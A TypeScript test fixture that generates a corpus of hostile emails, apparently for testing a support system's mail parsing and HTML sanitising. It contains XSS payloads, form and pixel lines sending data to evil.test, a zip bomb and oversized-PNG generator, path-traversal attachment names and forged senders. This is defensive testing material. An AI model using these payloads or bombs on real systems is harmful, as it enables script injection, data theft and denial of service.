import { deflateRawSync } from 'node:zlib';

export interface HostileMail {
  name: string;
  raw: Buffer;
  /** Of the envelope; '' is the null sender. */
  from: string;
}

/** What a payload does when it runs. */
const run = 'window.__ran=(window.__ran||0)+1';
const crlf = (lines: string[]): Buffer => Buffer.from(lines.join('\r\n'), 'latin1');

function head(subject: string, more: string[] = [], from = 'Amy Adams <amy@acme.test>'): string[] {
  return [`From: ${from}`, 'To: support@northstar.test', `Subject: ${subject}`, 'MIME-Version: 1.0', ...more];
}

const html = (name: string, body: string): HostileMail => ({
  name,
  from: 'amy@acme.test',
  raw: crlf([...head(name, ['Content-Type: text/html; charset=utf-8']), '', `<p>words of ${name}</p>${body}`]),
});

/** Mails whose HTML tries to run, fetch, cover or send. */
function hostileHtml(): HostileMail[] {
  const payloads: Record<string, string> = {
    script: `<script>${run}</script>`,
    'script of another case': `<ScRiPt src=//evil.test/x.js></sCrIpT>`,
    'broken script': `<scr<script>ipt>${run}</scr</script>ipt>`,
    handler: `<img src=x onerror="${run}"><body onload="${run}"><div onmouseover=${run}>x</div>`,
    'handler after a slash': `<img/src=x/onerror=${run}>`,
    'script address': `<a href="javascript:${run}">a</a><a href="java\tscript:${run}">b</a><a href=" &#106;avascript:${run}">c</a>`,
    'data address': `<a href="data:text/html,<script>${run}</script>">a</a><iframe src="data:text/html,<script>${run}</script>"></iframe>`,
    'picture with script': `<svg onload="${run}"><script>${run}</script><a xlink:href="javascript:${run}"><text>x</text></a></svg>`,
    formulas: `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${run}&gt;">`,
    template: `<template><script>${run}</script></template><noscript><p title="</noscript><img src=x onerror=${run}>"></noscript>`,
    comment: `<!--><img src=x onerror=${run}>--><!--[if gte IE 4]><script>${run}</script><![endif]-->`,
    'style sheet': `<style>@import url(//evil.test/x.css);*{background:url(//evil.test/p)}</style><link rel=stylesheet href=//evil.test/x.css>`,
    'style attribute': `<div style="background:url(https://evil.test/p);position:fixed;inset:0;z-index:9999;width:expression(${run});behavior:url(x)">cover</div>`,
    'escaped style': `<div style="b\\61 ckground:u\\72l(https://evil.test/p);pos\\69tion:fixed">x</div>`,
    form: `<form action="https://evil.test" id=f><input name=password><button formaction="javascript:${run}">Go</button></form>`,
    frames: `<iframe srcdoc="<script>${run}</script>"></iframe><object data="javascript:${run}"></object><embed src="javascript:${run}">`,
    'base and meta': `<base href="https://evil.test/"><meta http-equiv=refresh content="0;url=https://evil.test"><a href="/next">x</a>`,
    pixel: `<img src="https://evil.test/pixel.gif?who=amy" width=1 height=1><img srcset="https://evil.test/a.png 1x"><table background="https://evil.test/b.png"><tr><td>x</td></tr></table>`,
    'local address': `<img src="/api/files/ticket.attachment/0198c0de-7000-7abc-8def-0123456789ab"><img src="//evil.test/p"><a href="/auth/sign-out">x</a>`,
    'names of the page': `<div id=__NEXT_DATA__ class=kelp-page name=body><a id=location name=location href="https://evil.test">x</a></div>`,
    'deep nesting': `${'<div>'.repeat(5_000)}deep${'</div>'.repeat(5_000)}`,
    'open ends': `<p title="<img src=x onerror=${run}>"<b><i><table><tr><td><a href='`,
    media: `<video src="https://evil.test/v" onloadstart="${run}"></video><audio src=x onerror=${run}></audio><details open ontoggle=${run}>x</details>`,
    marquee: `<marquee onstart=${run}>x</marquee><isindex action=javascript:${run}><keygen autofocus onfocus=${run}>`,
  };
  return Object.entries(payloads).map(([name, body]) => html(name, body));
}

/** A zip file that says it unpacks to gigabytes. */
function zipBomb(): Buffer {
  const content = deflateRawSync(Buffer.alloc(30 * 1024 * 1024));
  const name = Buffer.from('zeros.bin');
  const local = Buffer.alloc(30);
  local.writeUInt32LE(0x04034b50, 0);
  local.writeUInt16LE(8, 8);
  local.writeUInt32LE(content.length, 18);
  local.writeUInt32LE(30 * 1024 * 1024, 22);
  local.writeUInt16LE(name.length, 26);
  const entry = Buffer.alloc(46);
  entry.writeUInt32LE(0x02014b50, 0);
  entry.writeUInt16LE(8, 10);
  entry.writeUInt32LE(content.length, 20);
  entry.writeUInt32LE(30 * 1024 * 1024, 24);
  entry.writeUInt16LE(name.length, 28);
  const body = Buffer.concat([local, name, content]);
  const end = Buffer.alloc(22);
  end.writeUInt32LE(0x06054b50, 0);
  end.writeUInt16LE(1, 8);
  end.writeUInt16LE(1, 10);
  end.writeUInt32LE(entry.length + name.length, 12);
  end.writeUInt32LE(body.length, 16);
  return Buffer.concat([body, entry, name, end]);
}

/** A PNG of 50,000 by 50,000 pixels, as its head says. */
function hugePicture(): Buffer {
  const png = Buffer.alloc(64);
  Buffer.from('89504e470d0a1a0a0000000d49484452', 'hex').copy(png);
  png.writeUInt32BE(50_000, 16);
  png.writeUInt32BE(50_000, 20);
  return png;
}

const part = (filename: string, content: Buffer, type = 'application/octet-stream'): string[] => [
  '--b',
  `Content-Type: ${type}`,
  'Content-Transfer-Encoding: base64',
  `Content-Disposition: attachment; filename="${filename}"`,
  '',
  (content.toString('base64').match(/.{1,76}/g) ?? []).join('\r\n'),
];

const withFile = (name: string, filename: string, content: Buffer, type?: string): HostileMail => ({
  name,
  from: 'amy@acme.test',
  raw: crlf([
    ...head(name, ['Content-Type: multipart/mixed; boundary=b']),
    '',
    '--b',
    'Content-Type: text/plain',
    '',
    `words of ${name}`,
    ...part(filename, content, type),
    '--b--',
    '',
  ]),
});

function hostileFiles(): HostileMail[] {
  const svg = Buffer.from(`<svg xmlns="http://www.w3.org/2000/svg" onload="${run}"><script>${run}</script></svg>`);
  return [
    withFile('zip bomb', 'holiday.zip', zipBomb(), 'application/zip'),
    withFile('picture bomb', 'photo.png', hugePicture(), 'image/png'),
    withFile(
      'program as a document',
      'invoice.pdf',
      Buffer.from('MZ\u0090\u0000\u0003'.padEnd(200, 'x'), 'latin1'),
      'application/pdf',
    ),
    withFile('program with two ends', 'invoice.pdf.exe', Buffer.from('x'.repeat(100))),
    withFile('page as a picture', 'photo.jpg', Buffer.from(`<html><script>${run}</script></html>`), 'image/jpeg'),
    withFile('drawing with script', 'logo.svg', svg, 'image/svg+xml'),
    withFile('path as a name', '../../../../etc/cron.d/evil', Buffer.from('* * * * *')),
    withFile('windows path as a name', '..\\\\..\\\\windows\\\\system32\\\\drivers', Buffer.from('x')),
    withFile('name with a line break', 'a=0D=0Ab\u0000.txt', Buffer.from('x')),
  ];
}

function hostileForms(): HostileMail[] {
  const nested = Array.from({ length: 120 }, (_, n) => [
    `--b${n}`,
    `Content-Type: multipart/mixed; boundary=b${n + 1}`,
    '',
  ]).flat();
  const enclosed = Array.from({ length: 60 }, () => ['Content-Type: message/rfc822', '']).flat();
  const crowd = Array.from({ length: 10_000 }, (_, n) => `p${n}@crowd.test`);
  const plain = (name: string, more: string[], body = `words of ${name}`, from?: string): HostileMail => ({
    name,
    from: 'amy@acme.test',
    raw: crlf([...head(name, more, from), '', body]),
  });
  return [
    {
      name: 'nested parts',
      from: 'amy@acme.test',
      raw: crlf([
        ...head('nested parts', ['Content-Type: multipart/mixed; boundary=b0']),
        '',
        ...nested,
        '--b120',
        '',
        'deep',
      ]),
    },
    { name: 'nested mails', from: 'amy@acme.test', raw: crlf([...head('nested mails'), ...enclosed, 'deep']) },
    plain(
      'many parts',
      ['Content-Type: multipart/mixed; boundary=b'],
      Array.from({ length: 2_000 }, (_, n) => `--b\r\nContent-Type: text/plain\r\n\r\n${n}`).join('\r\n'),
    ),
    plain('huge header', [`X-Long: ${'a'.repeat(400_000)}`]),
    plain(
      'many headers',
      Array.from({ length: 20_000 }, (_, n) => `X-N${n}: ${n}`),
    ),
    plain('ten thousand recipients', [`Cc: ${crowd.join(',\r\n ')}`]),
    plain('unknown charset', ['Content-Type: text/plain; charset=x-klingon']),
    plain('wrong charset', ['Content-Type: text/plain; charset=utf-8'], 'words \u00ff\u00fe\u00c3'),
    plain('utf-16 without a mark', ['Content-Type: text/plain; charset=utf-16'], 'w\u0000o\u0000r\u0000d'),
    plain('utf-7', ['Content-Type: text/html; charset=utf-7'], `+ADw-script+AD4-${run}+ADw-/script+AD4- words`),
    plain('broken base64', ['Content-Transfer-Encoding: base64'], '!!!!****===='),
    plain('broken quoting', ['Content-Transfer-Encoding: quoted-printable'], '=ZZ=4 words ='),
    plain('=?utf-8?B?broken?= =?x?q?', []),
    plain('no Message-ID', []),
    plain('two Message-IDs', ['Message-ID: <one@acme.test>', 'Message-ID: <two@acme.test>']),
    plain('endless Message-ID', [`Message-ID: <${'x'.repeat(5_000)}@acme.test>`]),
    plain('references without end', [
      `References: ${Array.from({ length: 3_000 }, (_, n) => `<r${n}@x.test>`).join('\r\n ')}`,
    ]),
    plain('forged sender of ours', [], 'words', 'Support <support@northstar.test>'),
    plain('forged colleague', [], 'words', 'Tess Tanaka <tess@northstar.test>'),
    plain('two senders', [], 'words', 'a@one.test, b@two.test'),
    plain('sender in a group', [], 'words', 'All:a@one.test,b@two.test;'),
    plain('loop', ['Auto-Submitted: auto-replied', 'X-Loop: support@northstar.test']),
    plain('list', ['List-Id: <all.acme.test>', 'Precedence: list']),
    { name: 'null sender', from: '', raw: crlf([...head('null sender'), '', 'words']) },
    {
      name: 'only line feeds',
      from: 'amy@acme.test',
      raw: Buffer.from(`From: amy@acme.test\nSubject: only line feeds\n\nwords\n`),
    },
    {
      name: 'noise',
      from: 'amy@acme.test',
      raw: Buffer.from(Array.from({ length: 4_000 }, (_, n) => (n * 7919) % 251)),
    },
  ];
}

/** Mails that mean harm or are broken, all made here. Those with HTML tell by `window.__ran` when something of them ran. */
export const hostileCorpus = (): HostileMail[] => [...hostileHtml(), ...hostileFiles(), ...hostileForms()];
